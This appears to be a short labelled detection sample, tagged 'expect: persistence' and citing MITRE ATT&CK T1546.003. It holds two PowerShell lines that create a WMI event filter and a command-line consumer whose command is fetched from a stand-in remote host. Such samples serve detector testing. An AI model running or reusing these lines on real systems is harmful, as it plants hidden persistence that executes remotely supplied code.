# expect: persistence | source: MITRE ATT&CK T1546.003
$f = Set-WmiInstance -Namespace root/subscription -Class __EventFilter -Arguments @{ Name = 'u'; Query = 'SELECT * FROM __InstanceModificationEvent' }
Set-WmiInstance -Namespace root/subscription -Class CommandLineEventConsumer -Arguments @{ Name = 'u'; CommandLineTemplate = (irm http://files.example.invalid/line) }
